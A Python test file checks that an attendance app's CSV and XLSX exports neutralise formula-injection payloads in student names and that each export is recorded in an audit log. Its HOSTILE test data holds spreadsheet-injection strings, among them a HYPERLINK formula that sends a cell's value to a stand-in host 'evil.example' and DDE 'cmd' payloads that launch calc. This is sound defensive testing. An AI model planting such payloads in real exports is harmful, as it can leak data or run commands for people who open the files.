"""Exports never carry a formula: names that start with =, +, -, @, tab or CR (OWASP CSV injection) come out
neutralised in CSV (a leading ') and XLSX (a text cell, the value kept exactly), read back from the produced
files; the register's own '-' code stays as it is. Through the real dashboard over HTTP too, and every export
leaves an audit_log row naming who exported what. Real PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import zipfile

import asyncpg
import pytest
from openpyxl import load_workbook

from consumers.exports import export_course, export_session, export_student
from consumers.sessions import open_session
from tests import dashboard_kit as kit
from infra.foundation.config import EXAMPLE_CONFIG, config_from_dict, load_config

HOSTILE = {  # person id -> display name
    "macron": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "ardern": "+cmd|' /C calc'!A0",
    "obama": "-2+3",
    "sunak": "@SUM(1+1)*cmd|' /C calc'!A0",
    "biden": "\t=1+1",
    "hanks": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _check_csv(data: bytes) -> dict[str, str]:
    """No cell starts a formula (the '-' code aside); returns person id -> name cell."""
    rows = _csv(data)
    for row in rows:
        for cell in row:
            assert cell == "-" or not cell.startswith(TRIGGERS), (cell, row)
    return {row[0]: row[1] for row in rows[1:] if row and row[0] in HOSTILE}


def _check_xlsx(data: bytes) -> dict[str, str]:
    """No formula cell (openpyxl's view and the sheet XML's); returns person id -> name cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    names = {}
    for row in load_workbook(io.BytesIO(data)).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        if row[0].value in HOSTILE:
            names[row[0].value] = row[1].value
    return names


async def _prepare(database_url: str) -> int:
    conn = await asyncpg.connect(database_url)
    try:
        for person, name in HOSTILE.items():
            await conn.execute("UPDATE person SET display_name = $2 WHERE id = $1", person, name)
        session = await open_session(conn, course_id="CS105", room_id="A101", actor="test",
                                     starts_at=dt.datetime(2026, 11, 3, 9, tzinfo=dt.timezone.utc), minutes=60)
        return session["id"]
    finally:
        await conn.close()


@pytest.fixture(scope="module")
def served(stack):

    raw = load_config(EXAMPLE_CONFIG, environ={}).model_dump(exclude={"source"})
    raw["dashboard"]["processor_metrics_urls"] = []
    config = config_from_dict(raw, environ={})
    with kit.served_dashboard(stack, config, "test_exports_hard", secret_key="s" * 48,
                              prepare=lambda database_url: asyncio.run(_prepare(database_url))) as server:
        server.session_id = server.prepared
        yield server


def test_exported_files_carry_no_formula(served):
    async def main():
        conn = await asyncpg.connect(served.database_url)
        try:
            day = (dt.date(2026, 11, 1), dt.date(2026, 11, 30))
            for fmt, check in (("csv", _check_csv), ("xlsx", _check_xlsx)):
                names = check(await export_session(conn, served.session_id, fmt, actor="t"))
                names_course = check(await export_course(conn, "CS105", *day, fmt, actor="t"))
                assert names == names_course and set(names) == set(HOSTILE), names
                if fmt == "csv":
                    assert names == {p: "'" + n for p, n in HOSTILE.items()}
                else:
                    # the text kept as a text cell (XML reads a raw CR back as LF: XML's rule, not ours)
                    assert names == {p: n.replace("\r", "\n") for p, n in HOSTILE.items()}
                check(await export_student(conn, "macron", *day, fmt, actor="t"))
            register = _csv(await export_course(conn, "CS105", *day, "csv", actor="t"))
            assert {row[2] for row in register[1:]} == {"-"}, "the open session's 'no record' code is kept"
            sheet = load_workbook(io.BytesIO(await export_session(conn, served.session_id, "xlsx", actor="t"))).active
            quoted = [c for row in sheet.iter_rows() for c in row if c.value in HOSTILE.values()]
            assert len(quoted) == len(HOSTILE) - 1 and all(c.data_type == "s" and c.quotePrefix for c in quoted)
            audit = await conn.fetch("SELECT actor, subject, detail FROM audit_log WHERE action = 'attendance.export'")
            assert len(audit) == 8 and {a["actor"] for a in audit} == {"t"}
            with pytest.raises(Exception, match="out of range"):
                await export_course(conn, "CS105", dt.date(2026, 1, 1), dt.date(9999, 12, 31), "csv", actor="t")
        finally:
            await conn.close()

    asyncio.run(main())


def test_dashboard_exports_are_neutralised_and_audited(served):
    admin = kit.login(served, "admin")
    for fmt, check in (("csv", _check_csv), ("xlsx", _check_xlsx)):
        response = admin.get(f"/api/sessions/{served.session_id}/export", params={"format": fmt})
        assert response.status_code == 200, response.text
        assert set(check(response.content)) == set(HOSTILE)
        course = admin.get("/api/courses/CS105/export", params={"format": fmt, "from": "2026-11-01", "to": "2026-11-30"})
        assert course.status_code == 200 and set(check(course.content)) == set(HOSTILE)
    student = admin.get("/api/students/macron/export", params={"format": "xlsx", "from": "2026-11-01",
                                                                "to": "2026-11-30"})
    assert student.status_code == 200
    wide = admin.get("/api/courses/CS105/export", params={"from": "2026-01-01", "to": "9999-12-31"})
    assert wide.status_code == 400, wide.text  # 9999-12-31 has no next day: refused, not a 500

    audit = kit.db(served, """SELECT subject, detail->>'kind' AS kind, detail->>'format' AS fmt
                              FROM audit_log WHERE action = 'attendance.export' AND actor = 'admin' ORDER BY id""")
    rows = [(r["subject"], r["kind"], r["fmt"]) for r in audit]
    assert rows == [(str(served.session_id), "session", "csv"), ("CS105", "course", "csv"),
                    (str(served.session_id), "session", "xlsx"), ("CS105", "course", "xlsx"),
                    ("macron", "student", "xlsx")]
